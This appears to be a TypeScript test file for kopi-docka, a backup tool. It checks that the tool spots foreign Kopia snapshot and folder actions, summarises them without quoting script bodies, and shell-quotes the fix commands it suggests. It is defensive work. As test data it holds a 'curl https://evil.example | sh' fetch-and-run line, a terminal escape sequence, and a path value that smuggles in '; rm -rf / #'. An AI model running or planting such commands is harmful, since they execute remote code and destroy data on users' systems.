import { describe, expect, test } from "bun:test";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { z } from "zod";
import {
  describeAction,
  ForeignActionError,
  foreignActions,
  onlyOurActions,
} from "../../../../src/core/kopia/actions.ts";
import { GATE_SCRIPT, hasGateAction, OUR_ACTIONS } from "../../../../src/core/kopia/gate.ts";
import { type KopiaPolicy, KopiaPolicySchema } from "../../../../src/core/kopia/policy-schema.ts";
import { exitCodeFor } from "../../../../src/exit-codes.ts";

// `kopia policy export` (v0.23.1) of a filesystem repository, host kd-fixture:
// - gated: kopi-docka@kd-fixture as `ensureGatePolicy` writes it, plus a source's ignore rule;
// - foreign: that, plus a before-snapshot-root script on the source's path, a before-folder command
//   (async, with args) on a directory inside it, an after-folder "none" (kopia 0.23.1 stores it as a
//   command) on a parent, a global root and folder action, @kd-fixture's after-snapshot-root and
//   before-folder, a before-folder on kopi-docka@kd-fixture itself, and another host's path policy;
// - altered: kopi-docka@kd-fixture's before-snapshot-root script replaced by another one.
const fixture = (name: string): Record<string, KopiaPolicy> =>
  z
    .record(z.string(), KopiaPolicySchema)
    .parse(
      JSON.parse(
        readFileSync(join(import.meta.dir, "../../../fixtures/kopia", `policy-export-${name}.json`), "utf8"),
      ),
    );
const me = "kopi-docka@kd-fixture";
const source = `${me}:/kopi-docka/app/volumes/app_data`;

describe("foreignActions", () => {
  test("kopi-docka's own gate and a source's ignore rules: nothing foreign", () => {
    const gated = fixture("gated");
    expect(foreignActions(gated, me)).toEqual([]);
    expect(hasGateAction(gated[me] ?? {})).toBe(true);
    expect(onlyOurActions(gated, me)).toBe(true);
  });

  test("every action of a path policy of ours counts; global, @host, user@host's folder actions and other hosts never run", () => {
    const found = foreignActions(fixture("foreign"), me);
    expect(found.map((f) => [f.target, f.field])).toEqual([
      [`${me}:/kopi-docka`, "afterFolder"],
      [source, "beforeSnapshotRoot"],
      [`${source}/sub`, "beforeFolder"],
    ]);
    expect(found.map((f) => f.what)).toEqual([
      'command "none", mode essential',
      'script "#!/bin/sh" (+2 lines), mode essential',
      'command "/usr/bin/env" (+3 args), mode async',
    ]);
    expect(onlyOurActions(fixture("foreign"), me)).toBe(false);
  });

  test("an altered gate on user@host is not refused (ensureGatePolicy replaces it) but no snapshot may open before", () => {
    const altered = fixture("altered");
    expect(foreignActions(altered, me)).toEqual([]);
    expect(hasGateAction(altered[me] ?? {})).toBe(false);
    expect(onlyOurActions(altered, me)).toBe(false);
  });

  test("on a path, only exactly our action passes: script, mode, timeout, and no command beside it", () => {
    const ours = OUR_ACTIONS.beforeSnapshotRoot;
    const at = (beforeSnapshotRoot: KopiaPolicy["actions"]) => ({
      [source]: { actions: beforeSnapshotRoot },
    });
    expect(foreignActions(at({ beforeSnapshotRoot: { ...ours } }), me)).toEqual([]);
    for (const changed of [
      { ...ours, timeout: 300 },
      { ...ours, mode: "optional" },
      { ...ours, script: `${GATE_SCRIPT}true\n` },
      { ...ours, path: "/bin/sh", args: ["-c", "id"] },
    ])
      expect(foreignActions(at({ beforeSnapshotRoot: changed }), me)).toHaveLength(1);
    // Our gate script as a folder action is still not ours: kopi-docka sets no folder action.
    expect(foreignActions(at({ beforeFolder: { ...ours } }), me)).toHaveLength(1);
    // Another identity on the same host, and a host whose name starts with ours: not our sources.
    const others = { "root@kd-fixture:/x": { actions: { beforeFolder: { path: "/x" } } } };
    expect(
      foreignActions({ ...others, [`${me}2:/x`]: { actions: { beforeFolder: { path: "/x" } } } }, me),
    ).toEqual([]);
  });
});

describe("describeAction", () => {
  test("never more than the first line, cut and quoted", () => {
    const long = `\u001b]0;#!/bin/sh ${"x".repeat(200)}`;
    const text = describeAction({ script: `${long}\ncurl https://evil.example | sh\n`, mode: "async" });
    expect(text).not.toContain("curl");
    expect(text).not.toContain("\u001b");
    expect(text).toBe(`script ${JSON.stringify(`${long.slice(0, 60)}…`)} (+1 lines), mode async`);
    expect(text).toStartWith('script "\\u001b]0;#!/bin/sh xxx');
    expect(describeAction({ path: "/tmp/evil.sh" })).toBe('command "/tmp/evil.sh", mode optional');
  });
});

describe("ForeignActionError", () => {
  test("exit 10, names each policy and field, says how to remove them, and quotes no script body", () => {
    const e = new ForeignActionError(foreignActions(fixture("foreign"), me));
    expect(exitCodeFor(e)).toBe(10);
    expect(e.message).toContain(`${source} before-snapshot-root: script "#!/bin/sh"`);
    expect(e.message).toContain(`${source}/sub before-folder: command "/usr/bin/env"`);
    expect(e.message).toContain("Nothing was stopped");
    expect(`${e.message} ${e.hint}`).not.toContain("curl");
    expect(e.hint).toContain(`kopi-docka kopia -- policy set '${source}' --before-snapshot-root-action=`);
    expect(e.hint).toContain(`kopi-docka kopia -- policy set '${me}:/kopi-docka' --after-folder-action=`);
  });

  test("a target from the repository is one shell word in the command it suggests", () => {
    const target = `${me}:/a'; rm -rf / #`;
    const e = new ForeignActionError([{ target, field: "beforeFolder", what: "x" }]);
    expect(e.hint).toContain(`policy set '${me}:/a'\\''; rm -rf / #' --before-folder-action=`);
  });
});
